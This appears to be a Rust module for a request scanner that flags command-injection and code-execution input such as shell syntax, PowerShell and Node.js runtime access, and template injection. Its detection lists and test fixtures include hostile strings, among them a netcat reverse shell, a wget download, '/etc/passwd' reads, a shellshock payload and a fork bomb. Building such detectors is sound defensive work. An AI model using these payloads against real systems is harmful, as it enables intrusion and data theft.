//! Command injection / RCE: shell separators followed by commands, command substitution,
//! shell tricks (`${IFS}`, globbed paths, shellshock), Windows cmd and PowerShell, and
//! server-side script runtimes (Node.js, Perl) reached through input.

use crate::text::FastFind;
use crate::text::{find_any, find_any_word};
use crate::{Ctx, Hit};

mod syntax;
mod words;
use words::{COMMAND_SET, WORDY_SET};

fn is_sep(c: u8) -> bool {
    matches!(
        c,
        b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b'{' | b'$' | b'\0'
    )
}

/// The command word at `i` (letters, digits, `-`, `_`, `.`), after an optional path prefix
/// (`/bin/`, `/usr/bin/`) and quote-splitting tricks (`w'h'o'am'i`, `wh\oami`).
fn command_at(lower: &str, i: usize) -> Option<(String, usize)> {
    let b = lower.as_bytes();
    let mut j = i;
    // Path prefix.
    if b.get(j) == Some(&b'/') {
        let mut k = j;
        while k < b.len()
            && (b[k].is_ascii_alphanumeric()
                || b[k] == b'/'
                || b[k] == b'_'
                || b[k] == b'-'
                || b[k] == b'.')
        {
            k += 1;
        }
        let path = &lower[j..k];
        if let Some(slash) = path.rfind('/')
            && (path.starts_with("/bin/")
                || path.starts_with("/usr/")
                || path.starts_with("/sbin/"))
        {
            j += slash + 1;
        }
    }
    // A quoted command word: `'curl' http://x`, `"cscli" alerts`.
    if matches!(b.get(j), Some(b'\'' | b'"'))
        && b.get(j + 1).is_some_and(|c| c.is_ascii_alphabetic())
    {
        j += 1;
    }
    let mut w = String::new();
    let mut k = j;
    while k < b.len() && w.len() < 32 {
        let c = b[k];
        if c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.') {
            w.push(c as char);
        } else if matches!(c, b'\'' | b'"' | b'\\')
            && !w.is_empty()
            && b.get(k + 1).is_some_and(|n| n.is_ascii_alphanumeric())
        {
            // Quote / backslash splitting inside a word.
        } else {
            break;
        }
        k += 1;
    }
    // `base64,iVBOR` (a data: URL) or `ls=1` is one word / an assignment, not a command.
    if matches!(b.get(k), Some(b',')) {
        return None;
    }
    let w = w.trim_end_matches('.').to_string();
    (!w.is_empty()).then_some((w, k))
}

/// Whether what follows a command word looks like shell arguments.
fn shell_args(rest: &str) -> bool {
    let r = rest.trim_start_matches([' ', '\t', '+']);
    if r.is_empty() {
        return true;
    }
    let first = r.as_bytes()[0];
    if matches!(
        first,
        b'-' | b'/'
            | b'~'
            | b'$'
            | b'<'
            | b'>'
            | b'|'
            | b';'
            | b'&'
            | b'`'
            | b'.'
            | b'*'
            | b'{'
            | b'\''
            | b'"'
    ) {
        return true;
    }
    let arg: String = r.chars().take_while(|c| !c.is_whitespace()).collect();
    arg.contains('/')
        || arg.contains('.')
        || arg.contains('=')
        || COMMAND_SET.contains(arg.as_str()) && !WORDY_SET.contains(arg.as_str())
}

/// The first non-wordy known command among the next few words after a wrapper command.
fn wrapped_command(lower: &str, from: usize) -> Option<(&'static str, usize)> {
    let rest = &lower[from..];
    let mut off = from;
    for part in rest.split_inclusive([' ', '\t', '+', ',']).take(5) {
        let word = part
            .trim_end_matches([' ', '\t', '+', ','])
            .trim_matches(['\'', '"']);
        if COMMAND_SET.contains(word) && !WORDY_SET.contains(word) {
            return Some(("shell command run through a wrapper", off));
        }
        if word.contains([';', '|', '&']) {
            break;
        }
        off += part.len();
    }
    None
}

/// Undo shell quoting tricks that the shell itself removes: `c''at`, `c\\at`, `c$*at`,
/// `c$@at`, `/bi[n]/sh` (one-character classes).
fn deobfuscate(lower: &str) -> String {
    let b = lower.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let next = b.get(i + 1).copied();
        if (c == b'\'' || c == b'"') && next == Some(c) {
            i += 2;
            continue;
        }
        if c == b'$'
            && next.is_some_and(|n| {
                matches!(n, b'*' | b'@' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#')
                    || n.is_ascii_digit()
            })
        {
            i += 2;
            continue;
        }
        // Empty substitutions: ``` `` ```, `$()`, and short unset `${xx}`.
        if c == b'`' && next == Some(b'`') {
            i += 2;
            continue;
        }
        if c == b'$' && next == Some(b'(') && b.get(i + 2) == Some(&b')') {
            i += 3;
            continue;
        }
        if c == b'$'
            && next == Some(b'{')
            && let Some(close) = lower[i + 2..].find('}')
            && close <= 8
            && lower[i + 2..i + 2 + close]
                .bytes()
                .all(|x| x.is_ascii_alphabetic())
        {
            i += 3 + close;
            continue;
        }
        if c == b'\\' && next.is_some_and(|n| n.is_ascii_alphanumeric()) {
            i += 1;
            continue;
        }
        if c == b'['
            && b.get(i + 2) == Some(&b']')
            && next.is_some_and(|n| n.is_ascii_alphanumeric())
        {
            out.push(b[i + 1]);
            i += 3;
            continue;
        }
        out.push(c);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Scan one value (and its shell-deobfuscated form).
pub fn scan(orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
    if let Some(h) = scan_one(orig, lower, ctx) {
        return Some(h);
    }
    // Every rewrite in `deobfuscate` starts at one of these bytes.
    if !lower.contains(['\'', '"', '$', '`', '\\', '[']) {
        return None;
    }
    let d = crate::grams::Indexed::derived(lower, deobfuscate(lower));
    if &*d != lower
        && let Some(mut h) = scan_one(orig, &d, ctx)
    {
        h.at = h.at.min(lower.len());
        h.strong = true;
        return Some(h);
    }
    None
}

fn scan_one(_orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
    let b = lower.as_bytes();
    if b.len() < 2 {
        return None;
    }
    // Shellshock.
    if let Some(p) = lower.ffind("() {")
        && lower[p..].contains(';')
    {
        return Some(Hit::deny(
            "rce.shellshock",
            p,
            "shellshock function definition",
        ));
    }
    if let Some((p, _)) = find_any(
        lower,
        &[
            "${ifs", "$ifs$", "$ifs ", "{ifs}", ":(){", ":|:&", "<<<", "$(", "${@", "${path:",
            "${home:", "${shell", "${ps1", "${pwd", "$[", "<(", ">(",
        ],
    ) {
        let after = &lower[p..];
        if !(after.starts_with("$(")
            && after[2..].starts_with(|c: char| c.is_ascii_digit() || c == ')' || c == '"'))
        {
            return Some(Hit::deny("rce.shell-syntax", p, "shell expansion syntax"));
        }
    }
    // Parameter expansion with a pattern operator: `${x#{}}`, `${PATH%%:*}`, `${a/b/c}`.
    let mut from = 0;
    while let Some(q) = lower[from..].ffind("${") {
        let at = from + q + 2;
        let id = lower[at..]
            .bytes()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
            .count();
        if id > 0 && matches!(b.get(at + id), Some(b'#' | b'%' | b'/' | b'^' | b',')) {
            return Some(Hit::deny(
                "rce.shell-syntax",
                at - 2,
                "shell parameter expansion",
            ));
        }
        from = at;
    }
    // Backtick substitution with a command inside.
    if let Some(p) = lower.find('`')
        && let Some((w, _)) = command_at(lower, p + 1)
        && COMMAND_SET.contains(w.as_str())
        && lower[p + 1..].contains('`')
    {
        return Some(Hit::deny(
            "rce.substitution",
            p,
            "backtick command substitution",
        ));
    }
    // Globbed sensitive paths: /e?c/p*sswd, /etc/[p]asswd.
    for dir in [
        "/etc/", "/bin/", "/usr/", "/proc/", "/e?c/", "/e*c/", "/???/", "/b??/", "/?in/",
    ] {
        if let Some(p) = lower.ffind(dir) {
            let seg: String = lower[p..]
                .chars()
                .take(24)
                .take_while(|c| !c.is_whitespace())
                .collect();
            if seg.contains(['?', '*', '[']) {
                return Some(Hit::deny("rce.glob", p, "wildcard-obfuscated system path"));
            }
        }
    }
    // Command position: start of value or after a separator.
    let mut i = 0;
    let mut positions = 0;
    while i < b.len() && positions < 256 {
        let at_start = i == 0;
        let after_sep = i > 0 && is_sep(b[i - 1]);
        if at_start || after_sep {
            let mut j = i;
            while j < b.len() && matches!(b[j], b' ' | b'\t' | b'+') {
                j += 1;
            }
            positions += 1;
            if let Some((mut w, mut end)) = command_at(lower, j) {
                if !COMMAND_SET.contains(w.as_str()) {
                    // `python3.10`, `gcc7.4`: a versioned binary name.
                    let base = w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
                    if base.len() >= 2 && base.len() < w.len() && COMMAND_SET.contains(base) {
                        w = base.to_string();
                    }
                }
                // `time sh -c id`, `nohup curl x`, `flock -u / whoami`: a wrapper runs the
                // command that follows it.
                if words::PREFIXES.contains(&w.as_str())
                    && let Some((inner, at)) = wrapped_command(lower, end)
                {
                    return Some(Hit::deny("rce.command", at, inner));
                }
                if lower[end..].starts_with('\'') || lower[end..].starts_with('"') {
                    end += 1;
                }
                let known = COMMAND_SET.contains(w.as_str());
                let wordy = WORDY_SET.contains(w.as_str());
                let sep_char = if i > 0 { b[i - 1] } else { 0 };
                // `curl/7.58.0` is a product token (User-Agent), not a command line.
                let product = lower[end..].starts_with(['/', '=']);
                if known && !product {
                    let args = shell_args(&lower[end..]);
                    let with_sep =
                        after_sep && sep_char != b'(' && sep_char != b'{' && sep_char != b'$';
                    let lone = at_start
                        && lower[end..].trim().is_empty()
                        && !lower[end..].contains(['\n', ';'])
                        && !words::ALONE.contains(&w.as_str());
                    if (!wordy && (with_sep || args) && !lone) || (with_sep && args) {
                        let strong = with_sep || lower[end..].contains(['/', '|', ';', '>', '<']);
                        return Some(Hit {
                            rule: "rce.command",
                            strong,
                            at: j,
                            msg: "shell command",
                        });
                    }
                }
            }
        }
        i += 1;
    }
    // Windows cmd / PowerShell.
    if let Some((p, _)) = find_any(
        lower,
        &[
            "cmd /c",
            "cmd.exe",
            "cmd /k",
            "command.com",
            "powershell",
            "pwsh ",
            "invoke-expression",
            "invoke-webrequest",
            "invoke-restmethod",
            "invoke-command",
            "iex(",
            "iex (",
            "downloadstring(",
            "downloadfile(",
            "new-object net.webclient",
            "net.webclient",
            "start-process",
            "%comspec%",
            "frombase64string",
            "-encodedcommand",
            "set-content",
            "get-content",
            "wscript.shell",
            "shell.application",
            "certutil -",
            "bitsadmin /",
            "rundll32 ",
            "regsvr32 /",
            "mshta ",
            "\\windows\\system32",
            "c:\\windows",
            "%systemroot%",
            "%windir%",
            "net user ",
            "net localgroup",
        ],
    ) {
        return Some(Hit::deny(
            "rce.windows",
            p,
            "Windows shell / PowerShell command",
        ));
    }
    if let Some((p, w)) = find_any_word(
        lower,
        &["iwr", "irm", "gci", "gc", "sal", "nal", "saps", "icm"],
    ) {
        let rest = lower[p + w.len()..].trim_start();
        if rest.starts_with("http")
            || rest.starts_with('-')
            || rest.starts_with('$')
            || (p > 0 && is_sep(b[p - 1]))
        {
            return Some(Hit::deny("rce.windows", p, "PowerShell alias"));
        }
    }
    // cmd.exe batch syntax: FOR /F ... DO, IF ... == ... command, %VAR% expansions.
    let folded = crate::grams::Indexed::derived(lower, crate::text::fold(lower));
    let f = folded.trim_start_matches([';', '&', '|', ' ', '@']);
    if (f.starts_with("for /") || f.starts_with("for %"))
        && (f.fcontains(" do ") || f.fcontains(")do "))
    {
        return Some(Hit::deny("rce.windows", 0, "cmd.exe FOR loop"));
    }
    if f.starts_with("if not defined ")
        || f.starts_with("if not exist ")
        || f.starts_with("if /i ")
        || f.starts_with("if not {")
        || f.starts_with("if errorlevel ")
    {
        return Some(Hit::deny("rce.windows", 0, "cmd.exe IF statement"));
    }
    if f.starts_with("if ")
        && (f.fcontains("==")
            || [
                " equ ",
                " neq ",
                " lss ",
                " leq ",
                " gtr ",
                " geq ",
                " exist ",
                "errorlevel",
                " defined ",
            ]
            .iter()
            .any(|k| f.fcontains(k)))
        && (f.fcontains(" echo ")
            || f.fcontains(" goto ")
            || f.fcontains(" cmd")
            || f.fcontains(" set ")
            || f.fcontains("echo"))
    {
        return Some(Hit::deny("rce.windows", 0, "cmd.exe IF statement"));
    }
    if let Some(p) = f.ffind("%_")
        && f[p + 1..].contains('%')
        && (f.fcontains("set ") || f.fcontains(":~"))
    {
        return Some(Hit::deny("rce.windows", p, "cmd.exe variable expansion"));
    }
    // Node.js / Perl / mail-header injection reached through input.
    if let Some((p, _)) = find_any(
        lower,
        &[
            "child_process",
            "process.mainmodule",
            "process[mainmodule",
            "require('child",
            "require(\"child",
            ".constructor.constructor",
            "constructor[prototype]",
            "[constructor][prototype]",
            "__proto__",
            "constructor.prototype",
            "fromcharcode",
            "process.binding",
            "process.env",
            "global.process",
            "this.constructor",
            "require('fs')",
            "require(\"fs\")",
            "execsync(",
            "spawnsync(",
            "@{[",
            "\nrcpt to:",
            "\nmail from:",
            "\rrcpt to:",
            "\rmail from:",
            "\ndata\r",
            "\nhelo ",
            "\nehlo ",
            "console.log(",
            "console.info(",
            "console.error(",
            "console.warn(",
            "setinterval(",
            "settimeout(",
            "=>{",
            "new function(",
            "vm.runin",
            "module.exports",
            "import(",
            "process[\"",
            "process['",
            "_$$nd_func$$_",
            "__class__",
            "__mro__",
            "__subclasses__",
            "__globals__",
            "__builtins__",
            "__import__",
            "{{config",
            "{{self",
            "{{request",
            "lipsum.",
            "cycler.",
            "joiner.",
        ],
    ) {
        return Some(Hit::deny(
            "rce.runtime",
            p,
            "server-side script runtime access",
        ));
    }
    if let Some(h) = syntax::scan(lower) {
        return Some(h);
    }
    if let Some(p) = lower.ffind("eval(") {
        return Some(Hit::deny("rce.runtime", p, "eval call"));
    }
    let _ = ctx;
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> Option<Hit> {
        crate::scan_query_value(scan, s)
    }

    #[test]
    fn attacks() {
        for a in [
            ";cat /etc/passwd",
            "| whoami",
            "$(id)",
            "`uname -a`",
            "a;wget http://x/y",
            "x&&nc -e /bin/sh 1.2.3.4 4444",
            "cat${IFS}/etc/passwd",
            "/etc/[p]asswd",
            "() { :;}; /bin/bash -c id",
            "powershell -enc AAAA",
            "nohup ifconfig",
            "time sh -c whoami",
            "{,ifconfig}",
            "c{a,oun}t /etc/passwd",
            "f(){ f|f& };f",
            "alias a=b",
            "{{7*7}}",
            "while(true);",
        ] {
            assert!(hit(a).is_some(), "{a}");
        }
    }

    #[test]
    fn benign() {
        for b in [
            "time warner",
            "ping pong tables",
            "hello; time he came",
            "environment",
            "a hero; more than",
            "The zip on my coat is stuck",
            "user@example.com",
            "Times & Schedule",
            "Axel",
            "base64",
            "myfunction(){ echo hello }",
            "{\"a\",\"b\"}",
            "if you want",
        ] {
            assert!(hit(b).is_none(), "{b}: {:?}", hit(b));
        }
    }
}
